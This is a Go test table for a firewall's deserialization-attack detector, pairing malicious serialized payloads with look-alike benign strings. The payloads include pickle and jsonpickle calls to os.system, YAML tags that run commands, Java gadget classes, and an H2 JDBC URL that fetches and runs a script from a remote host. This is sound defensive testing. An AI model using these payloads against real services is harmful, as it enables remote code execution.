package serial

import (
	"testing"

	"kongwaf/detect"
	"kongwaf/detect/attack/languagetest"
)

var language = languagetest.Language{Class: detect.ClassDeser, Possible: Possible, Judge: Judge, Rows: rows}

func TestLanguage(t *testing.T)   { language.Test(t) }
func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }

var rows = []languagetest.Row{
	{Shows: "class of Python that runs commands", Attack: "posix.system", Twin: "pages.systems", Name: "py/object"},
	{Shows: "reduction of Python as a key", Attack: "__reduce__", Twin: "__typename", IsName: true},
	{Shows: "what Python's jsonpickle calls", Attack: `{"py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}`, Twin: `{"py/state":[1,2]}`},
	{Shows: "a class named in an array, as Jackson does", Attack: `["org.springframework.context.support.ClassPathXmlApplicationContext","http://x.example/a.xml"]`, Twin: `["org.example.app","http://x.example/a.xml"]`},
	{Shows: "Java stream in base64", Attack: "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", Twin: "r00ABXNyABFqYXZh"},
	{Shows: "Java stream", Attack: "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", Twin: "\xac\xee\x00\x05"},
	{Shows: "Java stream in hex", Attack: "aced00057372001164617461", Twin: "aced00010203040506"},
	{Shows: "PHP object", Attack: `O:8:"stdClass":1:{s:1:"a";i:1;}`, Twin: `a:2:{i:0;s:3:"abc";i:1;i:5;}`},
	{Shows: "PHP object in an array", Attack: `a:1:{i:0;O:4:"Evil":0:{}}`, Twin: `ratio 4:3, O:8 and C:3`},
	{Shows: "PHP object with a sign", Attack: `O:+4:"Evil":0:{}`, Twin: `NO:4:"evil"`},
	{Shows: "PHP custom object", Attack: `C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}`, Twin: `C:\Users`},
	{Shows: ".NET formatter", Attack: "AAEAAAD/////AQAAAAAAAAAMAgAAAE", Twin: "AAEAAAABAAAA"},
	{Shows: ".NET type in JSON", Attack: `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`, Twin: `{"$type":"Acme.Orders.Order, Acme"}`},
	{Shows: "pickle, protocol 0", Attack: "cos\nsystem\n(S'id'\ntR.", Twin: "cos\nsin\ntan"},
	{Shows: "pickle in base64", Attack: "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", Twin: "gASoline prices"},
	{Shows: "Ruby Marshal in base64", Attack: "BAhvOkBBY3RpdmVTdXBwb3J0", Twin: "BAhamas"},
	{Shows: "Python tag of YAML", Attack: "!!python/object/apply:os.system ['id']", Twin: "!!important"},
	{Shows: "Java tag of YAML", Attack: "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]", Twin: "wow!!java is fun"[:5]},
	{Shows: "Ruby tag of YAML", Attack: "--- !ruby/object:Gem::Installer", Twin: "!ruby is fun"},
	{Shows: "function of node-serialize", Attack: `{"rce":"_$$ND_FUNC$$_function(){}()"}`, Twin: `{"price":"$$"}`},
	{Shows: "view state with a formatter's stream", Attack: "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1p", Twin: "/wEPDwUKMTIzNDU2Nzg5MA9kFgICAQ9kFgICAQ8PFgIe"},
	{Shows: "object in a session of Rails", Attack: "\x04\x08{\x06:\x06ao:\x13Gem::Installer\x06:\x06bi\x06", Twin: "\x04\x08{\x06:\x06ao:\x09Time\x06:\x06bi\x06"},
	{Shows: "no object in a cookie of Rails", Attack: "\x04\x08o:\x13Gem::Installer\x06:\x06bi\x06", Twin: "\x04\x08I\"\x0ahello\x06:\x06ET"},
	{Shows: "class of Ruby in JSON", Attack: "Gem::Requirement", Twin: "Money::Amount", Name: "json_class"},
	{Shows: "class of Ruby in Oj's JSON", Attack: "Net::WriteAdapter", Twin: "Invoice", Name: "^o"},
	{Shows: "class of PHP in JSON", Attack: `yii\rbac\PhpManager`, Twin: "btn btn-primary", Name: "__class"},
	{Shows: "constructor of PHP as a key", Attack: "__construct()", Twin: "construct()", IsName: true},
	{Shows: "key of jsonpickle that calls", Attack: "py/reduce", Twin: "py/state", IsName: true},
	{Shows: "class of Python in JSON", Attack: "subprocess.Popen", Twin: "shop.models.Order", Name: "py/object"},
	{Shows: "gadget in an array of any name", Attack: "ch.qos.logback.core.db.DriverManagerConnectionSource", Twin: "ch.qos.logback.core.ConsoleAppender", Name: "o"},
	{Shows: "connection that runs a script", Attack: "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://192.0.2.7/a.sql'", Twin: "jdbc:postgresql://db.example:5432/shop?ssl=true"},
	{Shows: "connection that reads objects", Attack: "jdbc:mysql://192.0.2.7/x?autoDeserialize=true&queryInterceptors=a.b", Twin: "jdbc:mysql://db.example/x?useUnicode=true"},
	{Shows: "gadget as a field's value", Attack: "com.sun.rowset.JdbcRowSetImpl", Twin: "Person", Name: "@type"},
	{Shows: "gadget in unparsed JSON", Attack: `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"x"}`, Twin: `{"@context":"https://schema.org","@type":"Product"}`},
	{Shows: "XMLDecoder", Attack: `<java version="1.7" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>`, Twin: `<java version="17"/>`},
	{Shows: "XStream", Attack: `<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>`, Twin: `<sorted-set><int>1</int></sorted-set>`},
}
